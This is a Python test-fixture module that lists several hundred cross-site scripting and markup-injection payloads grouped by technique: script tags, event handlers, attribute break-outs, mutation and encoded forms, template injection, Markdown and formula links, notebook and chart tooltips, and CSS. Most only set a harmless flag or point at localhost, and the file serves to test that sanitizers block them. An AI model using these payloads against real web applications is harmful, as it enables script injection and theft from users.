"""Texts that would run something if any sink took them for markup; each sets ``__hacked`` when it does."""

from __future__ import annotations

__all__ = ["BY_KIND", "PAYLOADS"]

_TAGS = r"""
<script>__hacked=1</script>
<script type=module>__hacked=1</script>
<SCRIPT>__hacked=1</SCRIPT>
<script/x>__hacked=1</script/x>
<script src="data:text/javascript,__hacked=1"></script>
<script src=nowhere onerror=__hacked=1></script>
<script async src=//127.0.0.1:9/a.js></script>
<script type=importmap>{"imports":{"a":"data:text/javascript,__hacked=1"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["http://127.0.0.1:9/b"]}]}</script>
<script>/*<!--*/__hacked=1//--></script>
<svg><script>__hacked=1</script></svg>
<svg><script>&#95;_hacked=1</script></svg>
<svg><script href="data:,__hacked=1"></script></svg>
<math><script>__hacked=1</script></math>
<template><script>__hacked=1</script></template>
<noscript><p title="</noscript><img src onerror=__hacked=1>"></noscript>
<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>
<iframe src="javascript:parent.__hacked=1"></iframe>
<iframe src="data:text/html,<script>parent.__hacked=1</script>"></iframe>
<object data="javascript:__hacked=1"></object>
<object data="data:text/html,<script>top.__hacked=1</script>"></object>
<embed src="javascript:__hacked=1">
<frameset><frame src="javascript:parent.__hacked=1"></frameset>
<portal src="http://127.0.0.1:9/portal"></portal>
<link rel=stylesheet href=http://127.0.0.1:9/c.css>
<link rel=preload as=script href=http://127.0.0.1:9/d.js>
<link rel=dns-prefetch href=//qualkit-hostile.invalid>
<link rel=stylesheet href=data:text/css,x onload=__hacked=1>
<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/e">
<meta http-equiv=refresh content="0;url=javascript:__hacked=1">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=http://127.0.0.1:9/base/>
<base target=_blank><a href=f>go</a>
<img src=http://127.0.0.1:9/g.png>
<img srcset="http://127.0.0.1:9/h.png 1x">
<picture><source srcset=http://127.0.0.1:9/i.png><img></picture>
<video poster=http://127.0.0.1:9/j.png></video>
<audio autoplay src=http://127.0.0.1:9/k.ogg></audio>
<body background=http://127.0.0.1:9/l.png>
<table background=http://127.0.0.1:9/m.png><td>cell</table>
<input type=image src=http://127.0.0.1:9/n.png>
"""

_FIRE_ALONE = r"""
<img src onerror=__hacked=1>
<img src=x onerror="__hacked=1">
<img/src/onerror=__hacked=1>
<IMG SRC=x OnErRoR=__hacked=1>
<image src=x onerror=__hacked=1>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=__hacked=1>
<img src=x:y onerror=window['__hac'+'ked']=1>
<img src=x onerror=alert(1)>
<img src=x onerror=confirm`1`>
<img src=x onerror="(0,prompt)(1)">
<img src=x onerror=top[/ale/.source+/rt/.source](1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror="setTimeout('__hacked=1')">
<img src=x onerror="import('data:text/javascript,__hacked=1')">
<img src=x onerror=Function('__hacked=1')()>
<svg onload=__hacked=1>
<svg/onload=__hacked=1>
<svg><g onload=__hacked=1></g></svg>
<svg><animate attributeName=x dur=1ms onbegin=__hacked=1></svg>
<svg><set attributeName=x onbegin=__hacked=1></svg>
<svg><animateTransform attributeName=transform onend=__hacked=1 dur=1ms></svg>
<svg><image href=x onerror=__hacked=1></svg>
<svg><image href=http://127.0.0.1:9/o.svg></svg>
<svg><foreignObject><img src onerror=__hacked=1></foreignObject></svg>
<svg><style>@import'http://127.0.0.1:9/p.css'</style></svg>
<body onload=__hacked=1>
<body onpageshow=__hacked=1>
<video src=x onerror=__hacked=1></video>
<video><source src=x onerror=__hacked=1></video>
<audio src=x onerror=__hacked=1></audio>
<input autofocus onfocus=__hacked=1>
<textarea autofocus onfocus=__hacked=1></textarea>
<select autofocus onfocus=__hacked=1></select>
<p tabindex=1 autofocus onfocusin=__hacked=1>leeks</p>
<a id=here tabindex=1 onfocus=__hacked=1>slot</a>
<details open ontoggle=__hacked=1>late</details>
<dialog open onclose=__hacked=1><form method=dialog><button>ok</button></form></dialog>
<marquee onstart=__hacked=1>box</marquee>
<style>@keyframes q{}</style><i style=animation-name:q onanimationstart=__hacked=1>i</i>
<style>i{transition:all 1ms}i:hover{top:1px}</style><i ontransitionrun=__hacked=1>i</i>
<object data=x onerror=__hacked=1></object>
<iframe onload=__hacked=1></iframe>
<embed src=data:text/plain,q onload=__hacked=1>
<input type=image src=x onerror=__hacked=1>
<style onload=__hacked=1></style>
<x-box onscrollsnapchange=__hacked=1 oncontentvisibilityautostatechange=__hacked=1 style=content-visibility:auto>x
"""

_FIRE_WHEN_TOUCHED = r"""
<b onmouseover=__hacked=1>refund</b>
<b onmouseenter=__hacked=1>refund</b>
<b onpointerover=__hacked=1>refund</b>
<b onpointerrawupdate=__hacked=1>refund</b>
<b onmousemove=__hacked=1>refund</b>
<b onclick=__hacked=1>refund</b>
<b onmousedown=__hacked=1>refund</b>
<b onauxclick=__hacked=1>refund</b>
<b oncontextmenu=__hacked=1>refund</b>
<b ondblclick=__hacked=1>refund</b>
<b onwheel=__hacked=1>refund</b>
<b ontouchstart=__hacked=1>refund</b>
<b draggable=true ondragstart=__hacked=1>refund</b>
<b contenteditable onbeforeinput=__hacked=1>refund</b>
<b contenteditable oncopy=__hacked=1 onpaste=__hacked=1>refund</b>
<b tabindex=0 onkeydown=__hacked=1>refund</b>
<a href=javascript:__hacked=1>refund</a>
<a href="JaVaScRiPt:__hacked=1">refund</a>
<a href="java&Tab;script:__hacked=1">refund</a>
<a href="&#1;javascript:__hacked=1">refund</a>
<a href="javascript&colon;__hacked=1">refund</a>
<a href="javascript://%0a__hacked=1">refund</a>
<a href="vbscript:__hacked=1">refund</a>
<a href="data:text/html,<script>opener.__hacked=1</script>" target=_blank>refund</a>
<a ping=http://127.0.0.1:9/ping href=#>refund</a>
<svg><a href=javascript:__hacked=1><text y=20>refund</text></a></svg>
<svg><a><animate attributeName=href values=javascript:__hacked=1 /><text y=20>refund</text></a></svg>
<math href=javascript:__hacked=1>refund</math>
<form action=javascript:__hacked=1><button>refund</button></form>
<form><button formaction=javascript:__hacked=1>refund</button></form>
<form action=http://127.0.0.1:9/form><input type=submit></form>
<form id=search><input name=value></form>
<button popovertarget=pop>refund</button><p popover id=pop onbeforetoggle=__hacked=1>gone</p>
<label for=search onclick=__hacked=1>refund</label>
<map name=m><area shape=default href=javascript:__hacked=1></map><img usemap=#m width=9 height=9>
"""

_BREAK_OUT = r"""
"><img src onerror=__hacked=1>
'><img src onerror=__hacked=1>
`><img src onerror=__hacked=1>
></span></p></div><img src onerror=__hacked=1>
" onmouseover="__hacked=1
' onmouseover='__hacked=1
" autofocus onfocus=__hacked=1 x="
' style=animation-name:q onanimationstart=__hacked=1 '
x onclick=__hacked=1
/onclick=__hacked=1/
"/><svg/onload=__hacked=1>
\"><img src onerror=__hacked=1>
\'-(__hacked=1)-\'
'-(__hacked=1)-'
"-(__hacked=1)-"
`-(__hacked=1)-`
';__hacked=1;//
";__hacked=1;//
\";__hacked=1;//
${__hacked=1}
`${__hacked=1}`
]};__hacked=1;//
"}],"x":(__hacked=1),"y":[{"a":"
</script><script>__hacked=1</script>
</script ><img src onerror=__hacked=1>
</SCRIPT><svg onload=__hacked=1>
<!--<script></script><img src onerror=__hacked=1>
<!--<script>
--><img src onerror=__hacked=1><!--
--!><img src onerror=__hacked=1>
]]><img src onerror=__hacked=1>
<![CDATA[<img src onerror=__hacked=1>]]>
<!DOCTYPE html [<!ENTITY e "<img src onerror=__hacked=1>">]>&e;
<?xml-stylesheet href="data:text/css,x"?><img src onerror=__hacked=1>
</title><img src onerror=__hacked=1>
</style><img src onerror=__hacked=1>
</textarea><img src onerror=__hacked=1>
</template><img src onerror=__hacked=1>
</select></option><img src onerror=__hacked=1>
</table><img src onerror=__hacked=1>
</details></summary></blockquote><img src onerror=__hacked=1>
</svg><img src onerror=__hacked=1>
</noscript><img src onerror=__hacked=1>
</xmp></plaintext></iframe><img src onerror=__hacked=1>
<textarea></textarea><img src onerror=__hacked=1>
<plaintext><img src onerror=__hacked=1>
"""

_MUTATE = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=__hacked=1&gt;">
<svg></p><style><a id="</style><img src onerror=__hacked=1>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hacked=1>
<svg><desc><![CDATA[</desc><img src onerror=__hacked=1>]]></svg>
<math><annotation-xml encoding=text/html><img src onerror=__hacked=1></annotation-xml></math>
<p id="</p><img src onerror=__hacked=1>">
<listing>&lt;img src onerror=__hacked=1&gt;</listing>
<xmp><p title="</xmp><img src onerror=__hacked=1>">
<a title="`<img src onerror=__hacked=1>`">late</a>
<<img src onerror=__hacked=1>
<scr<script>ipt>__hacked=1</scr</script>ipt>
<im<b>g src onerror=__hacked=1>
<div <img src onerror=__hacked=1>>
<b/><img src onerror=__hacked=1 <b>
<select><iframe></select><img src onerror=__hacked=1>
<table><tr><td><table><img src onerror=__hacked=1></td>
<ruby><rtc><math><mi><style><!--</style></math><img src onerror=__hacked=1>
<svg><title><style><img src onerror=__hacked=1></style></title></svg>
"""

_CODED = r"""
&lt;img src onerror=__hacked=1&gt;
&amp;lt;img src onerror=__hacked=1&amp;gt;
&#60;img src onerror=__hacked=1&#62;
&#x3c;img src onerror=__hacked=1&#x3e;
&LT;img src onerror=__hacked=1&GT;
&ltimg src onerror=__hacked=1&gt
\u003cimg src onerror=__hacked=1\u003e
\x3cimg src onerror=__hacked=1\x3e
%3Cimg src onerror=__hacked=1%3E
%253Cimg%2520src%2520onerror%253D__hacked%253D1%253E
+ADw-img src onerror+AD0-+AF8AXw-hacked+AD0-1+AD4-
＜img src onerror＝__hacked=1＞
‹img src onerror=__hacked=1›
\74img src onerror=__hacked=1\76
PGltZyBzcmMgb25lcnJvcj1fX2hhY2tlZD0xPg==
\\u003c/script\\u003e<img src onerror=__hacked=1>
"""

_TEMPLATES = r"""
{{constructor.constructor('__hacked=1')()}}
{{$on.constructor('__hacked=1')()}}
{{_c.constructor('__hacked=1')()}}
<p v-html="'<img src onerror=__hacked=1>'">{{ 1 }}</p>
<p ng-app ng-init="constructor.constructor('__hacked=1')()">late</p>
<p x-data x-init="__hacked=1">late</p>
<p hx-get=http://127.0.0.1:9/q hx-trigger=load>late</p>
<%= __hacked=1 %>
#{__hacked=1}
{% raw %}<img src onerror=__hacked=1>{% endraw %}
{{ '<img src onerror=__hacked=1>' | safe }}
{{ cycler.__init__.__globals__.os.getcwd() }}
<# __hacked=1 #>
__proto__
constructor
toString
"""

_MARKDOWN = r"""
[refund](javascript:__hacked=1)
[refund](JaVaScRiPt:__hacked=1 "late")
[refund](<javascript:__hacked=1>)
[refund]: javascript:__hacked=1
![late](http://127.0.0.1:9/r.png)
![late](x"onerror="__hacked=1)
<javascript:__hacked=1>
`</code><img src onerror=__hacked=1>`
```html <img src onerror=__hacked=1>
~~~ </pre></code><img src onerror=__hacked=1>
> <img src onerror=__hacked=1>
- <details open ontoggle=__hacked=1>
| a | <img src onerror=__hacked=1> |
# <img src onerror=__hacked=1>
$$<img src onerror=__hacked=1>$$
$\href{javascript:__hacked=1}{refund}$
$$\href{javascript:__hacked=1}{refund}$$
\(\href{javascript:__hacked=1}{refund}\)
\[\unicode{<img src onerror=__hacked=1>}\]
$\style{background:url(http://127.0.0.1:9/s)}{x}$
$\class{x}{\cssId{search}{\text{<img src onerror=__hacked=1>}}}$
$\require{html}\href{java&#9;script:__hacked=1}{x}$
"""

_FIGURES_AND_NOTEBOOKS = r"""
<a href="javascript:__hacked=1">refund</a><br><b>late</b>
<a href='data:text/html,<script>__hacked=1</script>' target="_top">refund</a>
<b onclick="__hacked=1">refund</b><extra></extra>
%{customdata[0]}<img src onerror=__hacked=1>
%{y}</b><a href="java	script:__hacked=1">late</a>
<span style="background:url(javascript:__hacked=1)">late</span>
<sub style="fill:url(http://127.0.0.1:9/t)">late</sub>
<extra><a href="javascript:__hacked=1">x</a></extra>
<button data-commandlinker-command="runmenu:run-all" data-commandlinker-args="{}">refund</button>
<div class="jp-RenderedHTML" data-mime-type="application/javascript">__hacked=1</div>
<pre class="mermaid">graph TD; A["<img src onerror=__hacked=1>"]</pre>
graph TD; A-->B; click A href "javascript:__hacked=1"
%%html <img src onerror=__hacked=1>
%%javascript __hacked=1
<script type="application/vnd.jupyter.widget-state+json">{"x":"</script><img src onerror=__hacked=1>"}</script>
"""

_STYLE = r"""
<style>*{background:url(http://127.0.0.1:9/u)}</style>
<p style="background:url(http://127.0.0.1:9/v)">late</p>
<p style="position:fixed;inset:0" onmouseover=__hacked=1>late</p>
};*{background:url(http://127.0.0.1:9/w)}/*
expression(__hacked=1)
url(javascript:__hacked=1)
@import url(http://127.0.0.1:9/x.css);
"""

_ODD = (
    "<img\nsrc\nonerror=__hacked=1>",
    "<img\x0csrc\x0conerror=__hacked=1>",
    "<img\tsrc\tonerror\t=\t__hacked=1>",
    "<im\x00g src onerror=__hacked=1>",
    "\x00<img src onerror=__hacked=1>",
    "<img src=x\x00 onerror=__hacked=1>",
    "\ufeff<img src onerror=__hacked=1>",
    "\u202e<img src onerror=__hacked=1>\u202c",
    "late\u2028__hacked=1//\u2029",
    "late\r\nContent-Type: text/html\r\n\r\n<img src onerror=__hacked=1>",
    "\x1b]8;;javascript:__hacked=1\x07refund\x1b]8;;\x07",
    "\x1b[31m<img src onerror=__hacked=1>\x1b[0m",
    "Straße 👩🏾‍🌾 <img src onerror=__hacked=1> مرحبا",
    "<b>" * 300 + "<img src onerror=__hacked=1>",
    "late " * 400 + "<img src onerror=__hacked=1>",
    "Слот <script>__hacked=1</script> не подходит",
)


def _lines(block: str) -> tuple[str, ...]:
    return tuple(block.strip().split("\n"))


BY_KIND: dict[str, tuple[str, ...]] = {
    "tags": _lines(_TAGS),
    "handlers that fire alone": _lines(_FIRE_ALONE),
    "handlers that fire when touched": _lines(_FIRE_WHEN_TOUCHED),
    "ways out of where the text stands": _lines(_BREAK_OUT),
    "markup that changes when parsed twice": _lines(_MUTATE),
    "markup in another coding": _lines(_CODED),
    "templates": _lines(_TEMPLATES),
    "Markdown and formulas": _lines(_MARKDOWN),
    "figures and notebooks": _lines(_FIGURES_AND_NOTEBOOKS),
    "style": _lines(_STYLE),
    "odd characters": _ODD,
}

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in BY_KIND.values() for text in texts))
